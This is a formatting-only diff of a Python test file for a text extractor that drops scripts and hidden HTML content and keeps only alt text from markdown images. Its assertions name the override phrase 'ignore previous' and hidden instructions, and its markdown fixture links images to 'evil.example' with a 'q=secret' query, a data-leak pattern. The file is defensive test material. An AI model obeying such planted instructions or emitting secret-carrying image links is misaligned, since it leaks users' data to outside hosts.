@@ -34,8 +34,6 @@ def rejected(path: Path, *fragments: str, max_bytes: int = MAX) -> str:
     return message
 
 
-
-
 def written(writer: PdfWriter) -> bytes:
     out = io.BytesIO()
     writer.write(out)
@@ -178,8 +176,19 @@ HTML = """<!DOCTYPE html>
 @pytest.mark.parametrize("suffix", [".html", ".htm"])
 def test_html_text_keeps_blocks_and_drops_scripts(tmp_path: Path, suffix: str) -> None:
     text = read_text(write(tmp_path, "page" + suffix, HTML), MAX)
-    for absent in ("alert", "fetch", "evil", "color", "Head title", "JavaScript", "template",
-                   "ignore previous", "Hidden instruction", "Also hidden", "DOCTYPE"):
+    for absent in (
+        "alert",
+        "fetch",
+        "evil",
+        "color",
+        "Head title",
+        "JavaScript",
+        "template",
+        "ignore previous",
+        "Hidden instruction",
+        "Also hidden",
+        "DOCTYPE",
+    ):
         assert absent not in text
     paragraphs = [" ".join(p.split()) for p in text.split("\n\n") if p.strip()]
     assert paragraphs[:4] == [
@@ -207,7 +216,7 @@ def test_html_in_utf16_with_bom(tmp_path: Path) -> None:
 
 def test_markdown_images_keep_alt_text_only(tmp_path: Path) -> None:
     md = (
-        "# Findings\n\nSee ![chart of crime](http://evil.example/x.png?q=secret \"t\") here.\n\n"
+        '# Findings\n\nSee ![chart of crime](http://evil.example/x.png?q=secret "t") here.\n\n'
         "Also ![logo][ref] and <img src='http://evil.example/p.gif' alt='pixel'>.\n\n"
         "[ref]: https://evil.example/logo.png\n"
     )
